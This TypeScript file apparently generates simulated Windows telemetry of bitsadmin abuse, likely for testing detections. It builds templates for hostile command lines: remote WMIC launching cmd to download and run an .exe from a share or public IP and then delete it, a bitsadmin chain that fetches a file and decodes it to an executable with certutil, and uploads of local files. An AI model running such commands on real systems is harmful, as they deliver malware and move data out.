/** Transfers by bitsadmin, in and out. */
import { bitsadminEvent, bitsadminLine, bitsadminProcess, transferArguments, word } from '../bitsadmin.js';
import type { Style, Transfer } from '../bitsadmin.js';
import { carried } from '../carriers.js';
import { processEvent } from '../events.js';
import type { Event } from '../events.js';
import { folder, hostName, jobName, path, publicAddress, respelled, share, url } from '../words.js';
import type { Scene } from '../words.js';
import type { Acts } from './acts.js';

function transfers(scene: Scene, transfer: Transfer, style: Style = {}): readonly Event[] {
  return carried(scene, bitsadminProcess(scene, bitsadminLine(scene, transferArguments(scene, transfer), style)));
}

/** The tool's line as a shell was given it, with what is run afterwards. */
function shellAndRun(scene: Scene, remote: string, more: (place: string) => string): { readonly shell: string; readonly child: string } {
  const { chance, account } = scene;
  const file = `${chance.letters(3, 8)}.exe`;
  const [job, given] = [jobName(scene), `%APPDATA%\\${file}`];
  const name = /\s/.test(job) ? `"${job}"` : job;
  return { shell: `bitsadmin /transfer ${name} ${remote} ${given}${more(given)}`, child: `bitsadmin  /transfer ${name} ${remote} C:\\Users\\${account}\\AppData\\Roaming\\${file}` };
}

function addfile(scene: Scene, job: string, remote = url(scene)): Event {
  return bitsadminEvent(scene, [word('/addfile'), job, remote, respelled(scene, path(scene))]);
}

export const bitsadminActs: Acts = {
  A01: (scene) => transfers(scene, { remote: url(scene, { host: hostName(scene) }), local: scene.chance.is(0.5) ? `${scene.chance.letters(3, 8)}.html` : path(scene) }),
  A02: (scene) => transfers(scene, { job: scene.chance.cased('/Download'), told: false, remote: url(scene), local: path(scene) }),
  A04: (scene) => {
    const { chance } = scene;
    const { shell, child } = shellAndRun(scene, share(scene), (given) => `&${given}`);
    const wmi = { image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', line: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe' };
    const line = `cmd.exe /c ${shell}`;
    return [
      processEvent(scene, { image: 'C:\\Windows\\System32\\wbem\\wmic.exe', original: 'wmic.exe', line: `wmic /node:${chance.pick(['@C:\\share$\\comps1.txt', `"ws${chance.digits(3)}"`])} /user:"${scene.user}" /password:"x" process call create "${line}"` }),
      processEvent(scene, { image: 'C:\\Windows\\System32\\cmd.exe', original: 'Cmd.Exe', line, parent: wmi }),
      processEvent(scene, { ...bitsadminProcess(scene, child), parent: { image: 'C:\\Windows\\System32\\cmd.exe', line } }),
    ];
  },
  A05: (scene) => {
    const { shell, child } = shellAndRun(scene, `http://${publicAddress(scene)}:80/${scene.chance.letters(1, 5)}`, (given) => `&${given}&del ${given}`);
    const line = `cmd.exe /c ${shell}`;
    return [processEvent(scene, { image: 'C:\\Windows\\System32\\cmd.exe', original: 'Cmd.Exe', line }), processEvent(scene, { ...bitsadminProcess(scene, child), parent: { image: 'C:\\Windows\\System32\\cmd.exe', line } })];
  },
  A08: (scene) => [bitsadminEvent(scene, [word('/addfileset'), jobName(scene), path(scene, 'txt')])],
  A09: (scene) => [bitsadminEvent(scene, [word('/addfilewithranges'), jobName(scene), url(scene), path(scene), `0:${scene.chance.digits(5)},200000:eof`])],
  A10: (scene) => [bitsadminEvent(scene, [word('/replaceremoteprefix'), jobName(scene), `http://${hostName(scene)}`, `${scene.chance.pick(['http', 'https'])}://${scene.chance.is(0.5) ? publicAddress(scene) : hostName(scene)}`])],
  A11: (scene) => transfers(scene, { remote: url(scene), local: path(scene) }, { leading: true }),
  B02: (scene) => {
    const remote = `http://${hostName(scene)}/${scene.chance.letters(3, 5)}.${scene.chance.pick(['asp', 'aspx', 'php', 'jsp'])}?${scene.chance.letters(1, 3)}=${scene.computer.split('.')[0] ?? ''}${scene.chance.letters(3, 5)}-${scene.account.replace(/[^a-z]/gi, '')}`;
    return transfers(scene, { remote, local: path(scene, 'txt'), told: true });
  },
  B03: (scene) => transfers(scene, { remote: url(scene), local: path(scene), direction: 'upload' }),
  B04: (scene) => {
    const job = jobName(scene);
    return [bitsadminEvent(scene, [word('/create'), word('/upload'), job]), addfile(scene, job), bitsadminEvent(scene, [word('/resume'), job])];
  },
  B06: (scene) => [processEvent(scene, bitsadminProcess(scene, bitsadminLine(scene, [word('/transfer'), word('/upload'), respelled(scene, path(scene, 'exe')), share(scene)])))],
  B07: (scene) => [bitsadminEvent(scene, [word('/sethttpmethod'), jobName(scene), word(scene.chance.pick(['POST', 'PUT']))])],
  D08: (scene) => {
    const { chance } = scene;
    const [job, remote, local] = [chance.letters(1, 8), url(scene), `${folder(scene)}\\${chance.letters(1, 5)}.txt`];
    const line = `cmd /c bitsadmin /util /setieproxy ${chance.pick(['networkservice', 'localsystem'])} AUTODETECT && bitsadmin /create /download ${job} && bitsadmin /setcustomheaders ${job} User-Agent:"${chance.letters(1, 6)}" && bitsadmin /addFile ${job} ${remote} ${local} && bitsadmin /resume ${job} && ping 127.0.0.1 -n 10 > nul && bitsadmin /complete ${job} && certutil -decode ${local} ${local.replace(/txt$/, 'exe')}`;
    return [
      processEvent(scene, { image: 'C:\\Windows\\System32\\cmd.exe', original: 'Cmd.Exe', line }),
      processEvent(scene, { ...bitsadminProcess(scene, `bitsadmin  /addFile ${job} ${remote} ${local}`), parent: { image: 'C:\\Windows\\System32\\cmd.exe', line } }),
    ];
  },
};
